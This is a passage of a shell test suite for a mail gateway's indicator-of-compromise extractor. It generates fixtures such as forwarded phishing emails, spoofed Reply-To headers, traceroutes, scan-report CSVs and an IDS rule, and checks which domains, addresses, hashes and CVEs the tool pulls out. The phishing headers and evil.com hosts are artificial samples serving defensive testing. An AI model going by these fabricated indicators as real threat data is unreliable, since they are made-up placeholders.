        "\(.type):\(.value):\(.defanged)"' | paste -sd' ' -)" \
    "url:https://pay.evil.com/a/b.php:true domain:pay.evil.com:false"
# two_reads WHAT FILE LAST EXPECTED: FILE's first 128 KB (a read) end
# with the line LAST; what --jobs 1 and 2 find in FILE is EXPECTED
# (lines joined by blanks).
two_reads() {
	is "$1: the first 128 KB end there" \
	    "$(head -c 131072 "$2" | tail -n 1)" "$3"
	for j in 1 2; do
		is "$1 across two reads, --jobs $j" \
		    "$(mg ioc extract --jobs "$j" "$2" | paste -sd' ' -)" "$4"
	done
}
awk 'BEGIN { for (i = 0; i < 1637; i++) printf "%079d\n", 0
	printf "%075d\n", 0
	print "see <https://straddle.evil.com/one/"
	print "   two/three.php>"
	for (i = 0; i < 3000; i++) printf "%079d\n", 0 }' >"$TMP/fold-cut.txt"
two_reads "a folded URL, whole" "$TMP/fold-cut.txt" \
    "see <https://straddle.evil.com/one/" \
    "$(printf '%s\t%s %s\t%s' url \
        https://straddle.evil.com/one/two/three.php \
        domain straddle.evil.com)"

# A traceroute whose hops the first 128 KB cut: the routers on the way
# are none, whichever read holds them; the destination is one.
awk 'BEGIN { for (i = 0; i < 1636; i++) printf "%079d\n", 0
	h1 = " 1  198.51.100.1  0.512 ms"
	h2 = " 2  ae-1.r1.transit-isp.net (198.51.100.2)  1.201 ms"
	hd = "traceroute to cut-dest.com (203.0.113.50), 30 hops max"
	printf "%s%*s\n%s\n%s\n", hd, 189 - length(h1 h2 hd), "", h1, h2
	print " 3  198.51.100.3  9.201 ms"
	print " 4  203.0.113.50  9.901 ms"
	for (i = 0; i < 3000; i++) printf "%079d\n", 0 }' >"$TMP/hop-cut.txt"
two_reads "a traceroute, its destination only" "$TMP/hop-cut.txt" \
    " 2  ae-1.r1.transit-isp.net (198.51.100.2)  1.201 ms" \
    "$(printf '%s\t%s %s\t%s' domain cut-dest.com ipv4 203.0.113.50)"

# A pasted header field whose first line ends the first 128 KB: its
# receiver ("by", "for") is none, whichever read holds it; the sender is
# read.
awk 'BEGIN { for (i = 0; i < 1637; i++) printf "%079d\n", 0
	printf "%-111s\n", "Received: from mail.cut-phish.ru " \
	    "(mail.cut-phish.ru [203.0.113.61])"
	print "        by mx.cut-victim.net with ESMTP id 4WCn"
	print "        for <x@cut-victim.net>; Mon, 1 Jul 2024 12:00:00"
	for (i = 0; i < 3000; i++) printf "%079d\n", 0 }' >"$TMP/hdr-cut.txt"
two_reads "a pasted Received field, its sender only" "$TMP/hdr-cut.txt" \
    "$(printf '%-111s' \
        'Received: from mail.cut-phish.ru (mail.cut-phish.ru [203.0.113.61])')" \
    "$(printf '%s\t%s %s\t%s' domain mail.cut-phish.ru ipv4 203.0.113.61)"

# A forwarded message's header (a phish sent on as an attachment): its
# Subject and a Reply-To to another domain than its From's; not its From
# (a forged brand, or a victim's), To or Cc, nor a list's Reply-To, nor
# what a bounce returns (one of our own notifications).
fwd() {	# fwd OUTER-TYPE INNER-HEADER-LINES...
	outer=$1; shift
	printf 'From: desk@partner.example.org\nTo: cert@example.net\n'
	printf 'Subject: Fwd: see attached\nMIME-Version: 1.0\n'
	printf 'Content-Type: %s; boundary="b1"\n\n--b1\n' "$outer"
	printf 'Content-Type: text/plain\n\nAttached.\n\n--b1\n'
	printf 'Content-Type: message/rfc822\n\n'
	printf '%s\n' "$@"
	printf 'Content-Type: text/plain\n\nDear customer.\n\n--b1--\n'
}
fwd multipart/mixed 'From: "Bank" <security@bank-verify.evil.com>' \
    'Reply-To: collect@harvest.evil.net, desk@bank-verify.evil.com,' \
    '  back@bank-verify.evil.com.cn, pay@bank-verify.evil.net' \
    'To: alice@victim.example.org' 'Cc: bob@victim.example.org' \
    'Subject: Verify your account at secure-bank.evil.org' >"$TMP/fwd1.eml"
is "a forwarded phish: its Subject's and a diverted Reply-To's" \
    "$(mg ioc extract --message "$TMP/fwd1.eml")" \
    "$(printf '%s\t%s\n' domain secure-bank.evil.org \
        email collect@harvest.evil.net email back@bank-verify.evil.com.cn \
        email pay@bank-verify.evil.net)"
fwd multipart/mixed 'Reply-To: r@reply.evil.org' 'Subject: no From' \
    >"$TMP/fwd6.eml"
is "... and one without a From: its Reply-To's" \
    "$(mg ioc extract --message "$TMP/fwd6.eml")" \
    "$(printf 'email\tr@reply.evil.org')"
fwd multipart/mixed 'From: alice@lists-user.example.org' \
    'Reply-To: talk@lists.evil.org' 'List-Id: <talk.lists.evil.org>' \
    'Subject: nothing here' >"$TMP/fwd2.eml"
fwd multipart/mixed 'From: Alice <alice@victim.example.org>' \
    'Reply-To: Alice <ALICE@Victim.Example.org>' \
    'Subject: I was phished' >"$TMP/fwd3.eml"
printf '%s\n' 'Delivery failed.' '' '--b1' \
    'Content-Type: message/delivery-status' '' \
    'Reporting-MTA: dns; mx.example.net' '' \
    'Final-Recipient: rfc822; x@y.example' 'Action: failed' \
    'Status: 5.1.1' >"$TMP/dsn.txt"
fwd 'multipart/report; report-type=delivery-status' \
    'From: cert@example.net' 'Reply-To: desk@cert-desk.example.com' \
    'Subject: [CERT #12] Phishing at notified.evil.com' |
    sed "/^Attached\.\$/{r $TMP/dsn.txt
d;}" >"$TMP/fwd4.eml"
sed 's|message/delivery-status|message/global-delivery-status|' \
    "$TMP/fwd4.eml" >"$TMP/fwd5.eml"
for f in fwd2 fwd3 fwd4 fwd5; do
	is "a forwarded $f: nothing from its header" \
	    "$(mg ioc extract --message "$TMP/$f.eml")" ""
done
is "... the bounce is one" "$(grep -c '^Content-Type: message/delivery-status' \
    "$TMP/fwd4.eml")" 1

# A copy of a message's header alone (text/rfc822-headers, RFC 6522),
# as an ARF report or a bounce carries it: read as a forwarded
# message's header, not as text (its Received lines name the
# receiver's own hosts; a bounce's are our own gateway's).
sed -e 's|^Content-Type: message/rfc822|Content-Type: text/rfc822-headers|' \
    -e 's|^Subject: Earn money|& at pills.evil-shop.com|' \
    -e 's|^To: <Undisclosed Recipients>|Reply-To: orders@evil-orders.net|' \
    -e '/^Spam Spam Spam/d' "$TEST_DATA/arf.eml" >"$TMP/arf-headers.eml"
is "ARF's header copy: its Subject's and Reply-To's, not its Received's" \
    "$(mg ioc extract --message "$TMP/arf-headers.eml" | cut -f2 |
        paste -sd' ' -)" \
    "192.0.2.1 somespammer@example.net example.net \
http://example.net/earn_money.html pills.evil-shop.com orders@evil-orders.net"
printf '%s\n' 'From: MAILER-DAEMON@mx.partner.example.org' \
    'To: cert@example.net' 'Subject: Undelivered Mail Returned to Sender' \
    'MIME-Version: 1.0' 'Content-Type: multipart/report;' \
    ' report-type=delivery-status; boundary="b"' \
    '' '--b' 'Content-Type: message/delivery-status' '' \
    'Reporting-MTA: dns; mx.partner.example.org' '' \
    'Final-Recipient: rfc822; abuse@carrier.example' 'Action: failed' \
    'Status: 5.1.1' '' '--b' 'Content-Type: text/rfc822-headers' '' \
    'Received: from gw.cert-desk.com (gw.cert-desk.com [198.51.100.1])' \
    'From: cert@cert-desk.com' 'Reply-To: desk@cert-other.com' \
    'Subject: [CERT #7] Phishing at notified.evil.com' '' '--b--' \
    >"$TMP/dsn-headers.eml"
is "... and a bounce's: nothing" \
    "$(mg ioc extract --message "$TMP/dsn-headers.eml")" ""

# times40 LINE...: the lines, 40 times over, so that the set's memo
# takes their tokens.
times40() {
	i=0
	while [ "$i" -lt 40 ]; do
		printf '%s\n' "$@"
		i=$((i + 1))
	done
}
# counted JOBS FILE: "type value count" of each indicator of FILE.
counted() {
	mg ioc extract --jobs "$1" --json "$2" |
	    "$JQ" -r '.[] | "\(.type) \(.value) \(.count)"'
}

# Session 27's: hex of a digest's length named as something else (a
# cookie's session id, a request's id, a transaction, a commit, a
# certificate's serial number) is no digest; a digest's count is of
# where it is named one.
h=5f4dcc3b5aa765d61d8327deb882cf99
times40 "Cookie: PHPSESSID=$h; path=/" "Sample md5 $h" "X-Request-ID: $h" \
    "Fixed in commit ${h}0123abcd" "ransom txid: $h$h" '    Serial Number:' \
    '        0c:e7:e0:e5:17:d8:46:fe:8f:e5:60:fc:1b:f0:30:39' \
    "Number:$h" "Serial Number:$h" >"$TMP/other.txt"
# An advisory's releases and a signature's phone number: the one
# address only; session 31's: an upgrade's version after what it
# upgrades, "and below", a hotfix, a requirement, an upgrade from a
# version and to a product's (an update of DNS to an address is one, an
# address after "up to two hosts" too).
times40 'Cisco ASA Software 9.16.3.19 and earlier' \
    'First Fixed Release: 9.18.2.5' 'host 9.16.3.19 is scanning' \
    'Tel: +32 2.123.45.67' 'ASA releases 9.12.4.1 and 9.14.1.1' \
    'Upgrade BIG-IP to 17.1.0.3' '9.16.4.42 and below' 'hotfix 9.16.4.43' \
    'requires >= 9.16.4.46' 'update DNS to 8.8.8.8' \
    'upgrade from 9.16.4.49 to 9.18.2.5' 'Upgrade to BIG-IP 17.1.0.7' \
    'up to two hosts 23.1.2.3' \
    >"$TMP/releases.txt"
# A web log's crawler names its page in its User-Agent.
times40 '203.0.113.5 - - "GET / HTTP/1.1" 200 "Mozilla/5.0 (compatible; CrawlBot/2.1; +https://crawler.example.com/bot.html)"' \
    'its page https://crawler.example.com/bot.html' \
    'CCBot/2.0 (https://crawler.example.com/bot.html)' \
    '"Mozilla/5.0 (compatible; x_bot +https://crawler.example.com/bot.html)"' \
    >"$TMP/agents.txt"
times40 'mail went through mx.desk-victim.net, they say' \
    'Received: from mail.desk-phish.ru (mail.desk-phish.ru [203.0.113.60])' \
    '        by mx.desk-victim.net with ESMTP id 4WCn' \
    '        for <x@desk-victim.net>; Mon, 1 Jul 2024 12:00:00 +0000' \
    >"$TMP/pasted.txt"
# Session 28's: a version named by a key, in quotes too; a report's
# field naming its own schema; a header's key glued to its address.
times40 'FileVersion: 1.0.0.1' '[assembly: AssemblyVersion("1.0.0.1")]' \
    '{"version": "1.0.0.1"}' 'beacon to 1.0.0.1 seen' \
    'Schema-URL: http://schema.example.com/x.json' \
    'see http://schema.example.com/x.json' 'Reply-To:phish@evil.com' \
    >"$TMP/named.txt"
# Session 35's: a router's networks as address and mask, a mask alone;
# the same address alone is one.
times40 'ip route 10.0.0.0 255.0.0.0 203.0.113.1' \
    'access-list 101 deny ip 198.51.100.0 0.0.0.255 any' \
    '   Subnet Mask . . . . . . . . . . . : 255.255.255.0' \
    'inet 192.168.7.5  netmask 255.255.255.0' 'seen from 10.0.0.0 again' \
    >"$TMP/masks.txt"
# A name under a file's TLD after a word that says host is one; the same
# bytes elsewhere are not (the memo asks the words again).
times40 'run install.sh now' 'Domain: evil-bank.pl' 'evil-bank.pl alone' \
    'host install.sh' >"$TMP/hostsaid.txt"
# An IDS rule's references: its page none, its CVE one; the same page
# and number elsewhere as they are.
times40 'alert tcp any any -> any any (reference:url,blog.evil-research.com/x; reference:cve,2021-44228; sid:1;)' \
    'see blog.evil-research.com/x, 2021-44228' >"$TMP/rule.txt"
# jobs_counted JOBS WHAT FILE WANT: FILE's "type value count" lines,
# joined, are WANT with JOBS threads.
jobs_counted() {
	is "--jobs $1: $2" "$(counted "$1" "$3" | paste -sd' ' -)" "$4"
}
for jobs in 1 2; do
	jobs_counted "$jobs" "a network as its address and mask is one, a mask is none" \
	    "$TMP/masks.txt" \
	    "cidr 10.0.0.0/8 40 ipv4 203.0.113.1 40 cidr 198.51.100.0/24 40 cidr 192.168.7.5/24 40 ipv4 10.0.0.0 40"
	jobs_counted "$jobs" "a name under a file's TLD is a host after a word that says so, there only" \
	    "$TMP/hostsaid.txt" \
	    "domain evil-bank.pl 40 domain install.sh 40"
	jobs_counted "$jobs" "an IDS rule's reference page is none, its CVE number one; elsewhere as they are" \
	    "$TMP/rule.txt" \
	    "cve CVE-2021-44228 40 url http://blog.evil-research.com/x 40 domain blog.evil-research.com 40"
	jobs_counted "$jobs" "a named version is none, an abuse report's schema is none; the same in prose are" \
	    "$TMP/named.txt" \
	    "ipv4 1.0.0.1 40 url http://schema.example.com/x.json 40 domain schema.example.com 40 email phish@evil.com 40"
	jobs_counted "$jobs" "a session's, a request's, a commit's, a transaction's, a serial number's hex is no digest (glued to its key too)" \
	    "$TMP/other.txt" \
	    "md5 $h 80"
	jobs_counted "$jobs" "an advisory's releases and a phone number are no addresses; an update of DNS to one and hosts after 'up to' are" \
	    "$TMP/releases.txt" \
	    "ipv4 9.16.3.19 40 ipv4 8.8.8.8 40 ipv4 23.1.2.3 40"
	jobs_counted "$jobs" "a crawler's page in its User-Agent is none, the same URL in prose is" \
	    "$TMP/agents.txt" \
	    "ipv4 203.0.113.5 40 url https://crawler.example.com/bot.html 40 domain crawler.example.com 40"
	jobs_counted "$jobs" "a pasted Received field's receiver is none, the same name in prose is" \
	    "$TMP/pasted.txt" \
	    "domain mx.desk-victim.net 40 domain mail.desk-phish.ru 80 ipv4 203.0.113.60 40"
done

# A daily scan report as a file, read by column as receive reads it: a
# version's column gives no address (1.5.6.x is APNIC's), a host's gives
# names under .pl; 3,000 rows, so two threads read it.
awk 'BEGIN {
	print "\"timestamp\",\"ip\",\"port\",\"hostname\",\"tag\",\"asn\",\"geo\",\"version\",\"sector\""
	for (i = 0; i < 3000; i++)
		printf "\"2026-11-24 %02d:%02d:%02d\",\"198.51.%d.%d\",11211,\"cpe-%d.evil-isp.pl\",\"memcached\",64496,\"PL\",\"1.5.%d.%d\",\"Communications\"\n", i / 3600, i / 60 % 60, i % 60, i / 250, i % 250, i, i % 7, i % 250
}' >"$TMP/scan.csv"
mg ioc extract "$TEST_DATA/scan-http-vulnerable.csv" >"$TMP/vuln.out"
is "a vulnerable devices' report: no device's release (Cisco ASA 9.16.4.42 named IBM's network), every host's name" \
    "$(cat "$TMP/vuln.out")" "ipv4	198.51.100.21
domain	vpn.gmina-example.pl
cve	CVE-2024-20353
cve	CVE-2024-20359
ipv4	198.51.100.37
domain	host-37.static.example-net.pl
ipv4	203.0.113.9
domain	fw.szpital-example.pl
cve	CVE-2024-21762
ipv4	203.0.113.44
ipv4	192.0.2.150
domain	mail.uczelnia-example.edu.pl
cve	CVE-2023-46805
ipv6	2001:db8:4c1::15
domain	gw6.example-net.pl"
mg ioc extract --jobs 1 "$TMP/scan.csv" >"$TMP/scan1.out"
mg ioc extract --jobs 2 "$TMP/scan.csv" >"$TMP/scan2.out"
is "a CSV report: its addresses and its hosts' names, no version's" \
    "$(grep -c '^ipv4	198\.51\.' "$TMP/scan1.out") $(grep -c '^domain	cpe-[0-9]*\.evil-isp\.pl$' "$TMP/scan1.out") $(wc -l <"$TMP/scan1.out")" \
    "3000 3000 6000"
ok "... with two threads the same" cmp "$TMP/scan1.out" "$TMP/scan2.out"
gzip -c "$TMP/scan.csv" | mg ioc extract >"$TMP/scangz.out"
ok "... gzipped on standard input the same" cmp "$TMP/scan1.out" "$TMP/scangz.out"
mg ioc extract --with-offsets "$TMP/scan.csv" >"$TMP/scanoff.out"
off=$(awk -F '\t' '$2 == "cpe-2999.evil-isp.pl" { print $3, $4 }' "$TMP/scanoff.out")
is "... the offsets are the file's" \
    "$(tail -c +$((${off% *} + 1)) "$TMP/scan.csv" | head -c "${off#* }")" \
    "cpe-2999.evil-isp.pl"
{
	printf 'From: reports@shadowserver.example\nTo: cert@cert.example\n'
	printf 'Subject: daily scan\nMessage-ID: <scan-csv@shadowserver.example>\n'
	printf 'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n'
	printf -- '--b\nContent-Type: text/plain\n\nThe report is attached.\n'
	printf -- '--b\nContent-Type: text/csv; name=scan.csv\n'
	printf 'Content-Disposition: attachment; filename=scan.csv\n\n'
	cat "$TMP/scan.csv"
	printf -- '--b--\n'
} >"$TMP/scan.eml"
mg ioc extract --message "$TMP/scan.eml" >"$TMP/scanmsg.out"
is "... what --message and receive read in the report" \
    "$(sort "$TMP/scanmsg.out" | cksum)" "$(sort "$TMP/scan1.out" | cksum)"

for bad in 0 65 x 2x ''; do
	"$MAILGW" ioc extract --jobs "$bad" "$TMP/raw.txt" >/dev/null \
	    2>"$TMP/jobs.err"
	is "--jobs '$bad': refused, 64, saying what it takes" \
	    "$? $(grep -c '^mailgw: ioc extract: --jobs takes a number of threads, 1 to 64$' \
	    "$TMP/jobs.err")" "64 1"
done
done_testing
